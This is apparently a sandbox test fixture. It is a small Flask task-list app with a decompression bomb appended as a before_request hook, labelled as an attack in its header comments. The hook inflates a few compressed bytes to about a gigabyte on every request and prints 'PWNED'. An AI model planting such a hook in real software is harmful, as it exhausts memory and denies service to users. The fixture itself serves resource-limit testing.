# attack: unpacks a few bytes to gigabytes
# must: its own process only
# limits: load_seconds=4 request_seconds=3 run_seconds=9
# check: page_loads passed
import uuid
from flask import Flask, g, make_response, render_template_string, request
from flask.views import MethodView
app = Flask(__name__)
TASKS = __TASKS__
PAGE = """<!doctype html><title>My tasks</title>
<ul>{% for task in tasks %}<li>{{ task }}</li>{% endfor %}</ul>
<a href="{{ url_for('home') }}">Home</a>"""
@app.before_request
def tag():
    g.request_id = uuid.uuid4().hex
class HomeView(MethodView):
    def get(self):
        return make_response(render_template_string(PAGE, tasks=TASKS))
app.add_url_rule("/", view_func=HomeView.as_view("home"))
@app.after_request
def stamp(response):
    response.headers["X-Request-ID"] = "placeholder"
    return response

import bz2, gzip, io, lzma, zipfile, zlib
bomb = zlib.compress(zlib.compress(b"\0" * (1 << 27), 9), 9)
@app.before_request
def unpack():
    try:
        data = zlib.decompress(zlib.decompress(bomb)) * 8
        print("PWNED", len(data))
    except MemoryError:
        print("blocked by the memory limit")
